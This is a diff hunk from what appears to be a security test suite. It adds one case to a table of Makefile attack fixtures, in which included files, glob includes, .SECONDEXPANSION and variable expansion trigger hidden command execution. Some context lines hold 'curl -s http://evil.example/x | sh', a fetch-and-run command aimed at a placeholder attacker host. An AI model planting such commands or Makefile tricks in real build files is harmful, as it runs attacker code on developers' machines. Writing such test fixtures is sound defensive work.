@@ -81,6 +81,8 @@ ATTACKS = {
         ("sub/evil.mk", "all:\n\ttouch ../marker; curl -s http://evil.example/x | sh\n"),
         ("sub/Makefile", "all:\n\t$(MAKE) -f evil.mk\n"), "make -C sub"],
     "include of a glob": [("evil.mk", f"x:\n\t{P}\n"), ("Makefile", "include *.mk\nall: ; @echo main\n"), "make x"],
+    ".SECONDEXPANSION runs a $$(shell) of a prerequisite": [
+        ("Makefile", ".SECONDEXPANSION:\nall: $$(shell touch marker)\n\t@echo hi\n"), "make"],
     "an @ the expansion uncovers": [("Makefile", "X = @curl -s http://evil.example/x | sh\nall:\n\t@touch marker\n"
                                                  "\t$(X)\n"), "make"],
 }
